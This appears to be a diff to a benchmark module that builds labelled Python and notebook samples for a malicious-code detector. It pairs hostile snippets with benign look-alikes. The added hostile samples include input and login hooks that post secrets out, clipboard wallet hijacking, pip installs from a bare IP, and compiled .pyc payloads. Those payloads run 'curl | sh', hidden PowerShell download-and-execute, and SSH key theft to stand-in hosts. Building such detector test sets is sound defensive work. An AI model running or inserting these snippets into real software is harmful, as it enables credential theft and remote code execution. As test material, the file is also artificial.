@@ -1,5 +1,10 @@
 """Python that never writes the call it makes, or asks people for what it steals; and honest code that looks alike."""
 
+import importlib.util
+import io
+import marshal
+import struct
+import zipfile
 from collections.abc import Iterator
 
 from benchmarks.corpus.code import notebook
@@ -37,6 +42,17 @@ _HIGH = {
     "letter = EmailMessage()\nletter.set_content(get_token())\nwith smtplib.SMTP_SSL('mail.invalid', 465) as post:\n    post.send_message(letter)\n",
     "key on a command line": "import subprocess\nfrom huggingface_hub import get_token\n"
     "subprocess.run(f\"curl -s -d 't={get_token()}' https://log.invalid/\", shell=True)\n",
+    "ears in Python itself": "import builtins, requests\n_ask = builtins.input\ndef ask(text=''):\n    answer = _ask(text)\n"
+    "    requests.post('https://e.invalid/', json={'asked': text, 'said': answer})\n    return answer\nbuiltins.input = ask\n",
+    "ears in a library": "import huggingface_hub, requests\n_login = huggingface_hub.login\ndef login(token=None, **more):\n"
+    "    requests.post('https://e.invalid/', json={'t': token})\n    return _login(token, **more)\nhuggingface_hub.login = login\n",
+    "program unpacked": "import gzip, os, shutil, tempfile\ntarget = os.path.join(tempfile.gettempdir(), 'helper.exe')\n"
+    "with gzip.open('assets/noise.dat') as packed, open(target, 'wb') as out:\n    shutil.copyfileobj(packed, out)\nos.startfile(target)\n",
+    "modules in a picture": "import sys\nsys.path.insert(0, 'assets/logo.png')\nimport logo_start\n",
+    "wallets in the clipboard": "import re, tkinter, time\nroot = tkinter.Tk()\nwhile True:\n    if re.match('0x[0-9a-f]{40}', root.clipboard_get()):\n"
+    "        root.clipboard_clear()\n        root.clipboard_append(root.clipboard_get()[:2] + '0' * 40)\n    time.sleep(1)\n",
+    "package from a bare number": "import subprocess, sys\ntry:\n    import fast_kernels\nexcept ImportError:\n"
+    "    subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'http://198.51.100.23:8000/fast_kernels-0.1.tar.gz'])\n",
     "keys that are pressed": "import ctypes, http.client\nfound = []\nwhile len(found) < 99:\n    for key in range(8, 191):\n"
     "        if ctypes.windll.user32.GetAsyncKeyState(key) & 1:\n            found.append(chr(key))\n"
     "http.client.HTTPConnection('203.0.113.4').request('POST', '/k', ''.join(found))\n",
@@ -71,9 +87,42 @@ _BENIGN = {
     "key among the options": "import argparse, os\nfrom huggingface_hub import HfApi\np = argparse.ArgumentParser()\n"
     "p.add_argument('--token', default=os.environ.get('HF_TOKEN'))\na = p.parse_args()\nHfApi(token=a.token).upload_folder(folder_path=a.out, repo_id='x/y')\n",
     "targets of a model": "import hydra\nmodel = hydra.utils.instantiate({'_target_': 'torch.nn.Linear', 'in_features': 4, 'out_features': 2})\n",
+    "library with other defaults": "import functools, torch\n_load = torch.load\ndef load(*given, **more):\n"
+    "    more.setdefault('map_location', 'cpu')\n    return _load(*given, **more)\ntorch.load = load\n",
+    "packed pickle of a data set": "import gzip, pickle\nwith gzip.open('mnist.pkl.gz', 'rb') as f:\n    train = pickle.load(f, encoding='latin1')\n",
+    "packed table": "import gzip, shutil\nwith gzip.open('cc.vec.gz') as packed, open('cc.vec', 'wb') as out:\n    shutil.copyfileobj(packed, out)\n",
+    "editor": "import tkinter\nclass Editor(tkinter.Tk):\n    def paste(self):\n        self.text.insert('end', self.clipboard_get())\n"
+    "    def copy(self):\n        self.clipboard_append(self.text.get('sel.first', 'sel.last'))\n",
+    "words of an error": "import base64, telegram\ndef check(text, digest):\n    if base64.b64decode(text) != digest:\n"
+    "        raise telegram.error.TelegramError(f'hash {base64.b64decode(text)} is not {digest}')\n",
     "handlers of a log": "import logging.config\nlogging.config.dictConfig({'version': 1, 'handlers': {'c': {'class': 'logging.StreamHandler'}}})\n",
     "query with a name": "import pandas as pd\nlimit = 3\nprint(pd.read_csv('a.csv').query('size > @limit and name.str.len() > 2'))\n",
 }
+
+
+_COMPILED = {
+    "command": "import os\nos.system('curl -s http://files.invalid/x | sh')\n",
+    "hidden command": "import subprocess\nsubprocess.Popen(['powershell', '-w', 'hidden', '-c', 'iex(iwr http://files.invalid/x)'])\n",
+    "source that is fetched": "from urllib.request import urlopen\nexec(urlopen('http://files.invalid/x').read())\n",
+    "source that is decoded": "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
+    "key that is sent": "import os, requests\ndef go():\n    key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
+    "    requests.post('https://k.invalid/', data=key)\ngo()\n",
+}
+
+
+def compiled(source: str) -> bytes:
+    """As Python of this version would write it (PEP 552)."""
+    code = marshal.dumps(compile(source, "utils.py", "exec"))
+    return importlib.util.MAGIC_NUMBER + struct.pack("<III", 0, 0, len(source)) + code
+
+
+def packed(members: dict[str, bytes]) -> bytes:
+    """A zip."""
+    target = io.BytesIO()
+    with zipfile.ZipFile(target, "w") as archive:
+        for name, data in members.items():
+            archive.writestr(zipfile.ZipInfo(name), data)
+    return target.getvalue()
 
 
 def samples() -> Iterator[Sample]:
@@ -84,6 +133,27 @@ def samples() -> Iterator[Sample]:
         yield careful("python-indirect", case, "modeling_x.py", source)
     for case, source in _BENIGN.items():
         yield benign("python-indirect", case, "run_x.py", source)
+    for case, source in _COMPILED.items():
+        yield high("python-compiled", case, "__pycache__/utils.cpython-311.pyc", compiled(source))
+    usual = "import json, math\ndef mean(rows):\n    return math.fsum(rows) / len(rows)\ndef read(path):\n    return json.load(open(path))\n"
+    yield careful("python-compiled", "nothing unusual", "__pycache__/utils.cpython-311.pyc", compiled(usual))
+    runs = packed({"__main__.py": b"print('hello')\n"})
+    yield high(
+        "python-packed",
+        "archive behind a text",
+        "tokenizer.py",
+        b"import re\n\n\ndef split(text):\n    return re.findall('[a-z]+', text)\n" + runs,
+    )
+    yield high(
+        "python-shadowing", "folder of a library", "numpy/__init__.py", "from .core import array\n", "numpy/core.py"
+    )
+    yield careful(
+        "python-shadowing",
+        "folder that is often kept",
+        "diffusers/__init__.py",
+        "from .pipe import Pipe\n",
+        "diffusers/pipe.py",
+    )
     page = "<script>fetch('https://o.invalid/c').then(r => r.text()).then(eval)</script>"
     yield high("notebook-indirect", "result that runs what it fetches", "demo.ipynb", notebook("print(1)\n", page=page))
     form = notebook("#@title Keep the page awake\n%%javascript\nsetInterval(() => document.title, 60000)\n")
